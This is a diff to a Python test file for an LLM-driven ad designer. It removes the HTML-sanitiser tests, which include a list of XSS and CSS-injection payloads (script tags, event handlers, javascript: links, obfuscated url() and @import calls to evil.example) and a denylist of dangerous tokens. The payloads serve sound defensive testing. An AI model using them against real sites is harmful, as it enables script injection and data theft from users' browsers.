@@ -1,4 +1,4 @@
-"""The LLM backend against a real OpenAI-compatible server on loopback; the sanitiser; the built-in prompts.
+"""The LLM backend against a real OpenAI-compatible server on loopback, and the built-in prompts.
 
 The server speaks the chat-completions protocol the openai SDK uses and answers from what it is asked
 (the copy, the layout analysis, the fonts named in the prompt), the way a model would: including the
@@ -32,7 +32,6 @@ from nanococoa_mcp.ad.backends.llm_copy import (
 from nanococoa_mcp.ad.backends.studio.layout import analyse
 from nanococoa_mcp.ad.catalog.styles import STYLES, resolve_style
 from nanococoa_mcp.ad.catalog.text_styles import resolve_text_style
-from nanococoa_mcp.ad.html_sanitize import parse_color, sanitize, sanitize_html
 from nanococoa_mcp.ad.scene_prompts import PHRASES, has_hangul, scene_prompt, translate
 from nanococoa_mcp.ad.stages import copy_design, final
 from nanococoa_mcp.settings import Settings, get_settings
@@ -308,7 +307,7 @@ def test_llm_design_is_asked_with_the_layout_analysis_sanitised_and_rendered(
     low = doc.html.lower()
     for bad in ("<script", "onerror", "onclick", "url(", "http", "@import", "<img", "position:absolute", "pwned"):
         assert bad not in low, bad
-    assert {"<script>", "onclick=", "<img>", "@import url('http://fonts.example.com/jua.css')"} <= set(out.notes)
+    assert {"<script>", "onclick=", "<img>", '@import url("http://fonts.example.com/jua.css")'} <= set(out.notes)
     # The renderer's structure, with our copy (not the model's text) in it, and the model's styling kept.
     assert doc.html.count('class="main"') == 1 and '<span class="back" style="color: #1A1A1A' in doc.html
     assert f">{COPY}</span>" in doc.html and f">{SUB}</span>" in doc.html
@@ -409,123 +408,6 @@ def test_an_unsized_design_with_both_lines_in_one_element_still_fits_and_passes(
 def test_a_design_that_drops_the_copy_is_rejected() -> None:
     with pytest.raises(AnswerRejected, match="does not contain the copy"):
         build_document("<div style='color:red'>다른 문구</div>", _input())
-
-
-# --- the sanitiser --------------------------------------------------------------------------------------------
-
-NASTY = [
-    "<script>alert(1)</script><div>ok</div>",
-    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT><div>ok</div>",
-    '<div onclick="alert(1)" onmouseover=alert(2)>ok</div>',
-    "<img src=x onerror=alert(1)><div>ok</div>",
-    '<div style="background:url(http://evil.example/a.png)">ok</div>',
-    "<div style=\"background: URL( 'http://evil.example/a.png' )\">ok</div>",
-    '<div style="background:\\75rl(http://evil.example/a.png)">ok</div>',
-    '<div style="background:&#x75;rl(http://evil.example/a.png)">ok</div>',
-    '<div style="width: expression(alert(1)); color: red">ok</div>',
-    '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">ok</div>',
-    '<div style="color: ｕｒｌ(http://evil.example)">ok</div>',
-    "<div style=\"background-image: image-set('http://evil.example/a.png' 1x)\">ok</div>",
-    '<div style="color: var(--x); background: attr(data-x)">ok</div>',
-    "<style>@import url(http://evil.example/x.css);</style><div>ok</div>",
-    '<style>@import "http://evil.example/x.css"; div{color:red}</style><div>ok</div>',
-    "<style>.a{background:url(http://evil.example/a.png)} .a::after{content:url(http://evil.example/b.png)}</style>"
-    '<div class="a">ok</div>',
-    "<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style><div>ok</div>",
-    '<a href="javascript:alert(1)">ok</a>',
-    '<div style="color:red" style="background:url(http://evil.example)">ok</div>',
-    '<iframe src="http://evil.example"></iframe><div>ok</div>',
-    "<svg onload=alert(1)><script>alert(1)</script></svg><div>ok</div>",
-    "<math><mtext><img src=x onerror=alert(1)></mtext></math><div>ok</div>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<link rel=stylesheet href=http://evil.example/x.css><meta http-equiv=refresh content="0;url=http://evil.example">'
-    "<div>ok</div>",
-    '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/y"><div>ok</div>',
-    '<form action="http://evil.example"><input name=x><button>go</button></form><div>ok</div>',
-    "<!-- <script>alert(1)</script> --><div>ok</div>",
-    '<div style="color:red /* */ ; background: url/**/(http://evil.example)">ok</div>',
-    "<scr<script>ipt>alert(1)</script><div>ok</div>",
-    "<div><span><b>ok",
-    '<base href="http://evil.example/"><div>ok</div>',
-    "<div style=\"font-family: 'x'; src: url(http://evil.example)\">ok</div>",
-]
-
-
-@pytest.mark.parametrize("source", NASTY)
-def test_sanitiser_output_is_inert(source: str) -> None:
-    out = sanitize_html(source).lower()
-    for bad in ("<script", "<img", "<iframe", "<svg", "<style", "<link", "<meta", "<base", "<object", "<embed",
-                "<form", "<input", "<a ", " on", "url(", "http", "javascript", "expression", "@import",
-                "behavior", "binding", "var(", "attr(", "image-set", "\\", "<!--"):  # fmt: skip
-        assert bad not in out, (bad, out)
-    assert re.fullmatch(
-        r"(<(div|span|p|br|strong|em|b|i|small|sup|sub)( (class|style)=\"[^\"<>]*\")*>|</\w+>|[^<>]+)*", out
-    )
-
-
-def test_sanitiser_keeps_legit_styling() -> None:
-    source = (
-        '<div class="wrap card" style="background: linear-gradient(180deg, #FFF4B8 0%, rgba(255,201,40,0.9) 100%);'
-        ' padding: 12px 24px; border-radius: 16px; box-shadow: 0 4px 12px rgba(0,0,0,.3); transform: rotate(-4deg)">'
-        "<h1 style=\"font-family: 'BM JUA_TTF', Papyrus, sans-serif; color: #5B2A00; font-size: 64px;"
-        " font-weight: 700; -webkit-text-stroke: 3px #fff; text-shadow: 0 2px 0 #3A1A00; letter-spacing: -0.02em;"
-        ' text-align: center !important">건어물 <strong>대박</strong> 세일</h1><br/><small>오늘만</small></div>'
-    )
-    clean = sanitize(source)
-    wrap = clean.root.children[0]
-    assert not isinstance(wrap, str)
-    assert wrap.classes == ("wrap", "card")
-    assert wrap.style["background"].startswith("linear-gradient(180deg, #FFF4B8 0%")
-    assert wrap.style["transform"] == "rotate(-4deg)" and wrap.style["border-radius"] == "16px"
-    head = wrap.children[0]
-    assert not isinstance(head, str) and head.tag == "div" and head.source_tag == "h1"
-    assert head.style == {
-        "font-family": '"BM JUA_TTF", sans-serif',
-        "color": "#5B2A00",
-        "font-size": "64px",
-        "font-weight": "700",
-        "-webkit-text-stroke": "3px #fff",
-        "text-shadow": "0 2px 0 #3A1A00",
-        "letter-spacing": "-0.02em",
-        "text-align": "center",
-    }
-    assert "<strong>대박</strong>" in clean.html() and "<br><small>오늘만</small>" in clean.html()
-    assert clean.root.text() == "건어물 대박 세일\n오늘만"
-
-
-def test_style_sheet_rules_with_simple_selectors_are_inlined_by_specificity() -> None:
-    source = (
-        "<style>/* theme */ h1 { color: blue; font-size: 60px } .title { color: #C00 } h1.title { letter-spacing: 1px }"
-        " div > p { color: green } #x { color: pink } .title:hover { color: black } @media (max-width: 1px) {"
-        " .title { color: white } }</style>"
-        '<h1 class="title" style="font-size: 72px">세일</h1><p>sub</p>'
-    )
-    clean = sanitize(source)
-    head, para = clean.root.children[0], clean.root.children[1]
-    assert not isinstance(head, str) and not isinstance(para, str)
-    assert head.style == {"color": "#C00", "letter-spacing": "1px", "font-size": "72px"}
-    assert para.style == {}
-    assert "<style" not in clean.html()
-
-
-def test_unclosed_and_misnested_tags_are_closed_and_deep_nesting_is_flattened() -> None:
-    assert sanitize_html("<div><b>굵게<i>기울임</b> 끝") == "<div><b>굵게<i>기울임</i></b> 끝</div>"
-    deep = "<div>" * 200 + "깊다" + "</div>" * 200
-    out = sanitize_html(deep)
-    assert out.count("<div>") == 24 and "깊다" in out
-
-
-def test_text_is_escaped_and_entities_stay_text() -> None:
-    out = sanitize_html("<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; 1+1 특가</p>")
-    assert out == "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; 1+1 특가</p>"
-
-
-def test_css_colours_parse_with_alpha() -> None:
-    assert parse_color("#1a1a1a") == ((26, 26, 26), 1.0)
-    assert parse_color("rgba(255, 255, 255, 0.5)") == ((255, 255, 255), 0.5)
-    assert parse_color("rgb(0 128 255 / 25%)") == ((0, 128, 255), 0.25)
-    assert parse_color("gold") == ((255, 215, 0), 1.0)
-    assert parse_color("transparent") is None and parse_color("nonsense") is None
 
 
 def test_a_whole_ad_with_use_llm_html_uses_the_llm_design_and_a_step_3_rerun_keeps_it(
